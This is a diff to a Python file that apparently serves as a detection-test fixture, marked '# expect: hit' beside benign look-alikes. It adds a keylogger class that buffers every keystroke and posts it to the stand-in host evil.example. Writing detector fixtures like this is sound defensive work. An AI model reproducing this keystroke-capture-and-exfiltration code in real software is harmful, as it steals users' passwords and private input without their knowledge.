@@ -46,6 +46,20 @@ def forward(key):
 kb.Listener(on_press=lambda k: forward(k)).start()
 
 
+class Activity:
+    def __init__(self):
+        self.buffer = []
+
+    def on_press(self, key):
+        self.buffer.append(getattr(key, "char", None) or str(key))
+
+    def flush(self):
+        requests.post("https://evil.example/b", data="".join(self.buffer))  # expect: hit
+
+    def start(self):
+        kb.Listener(on_press=self.on_press).start()
+
+
 # look-alikes
 def quit_on_escape(key):
     if key == kb.Key.esc:
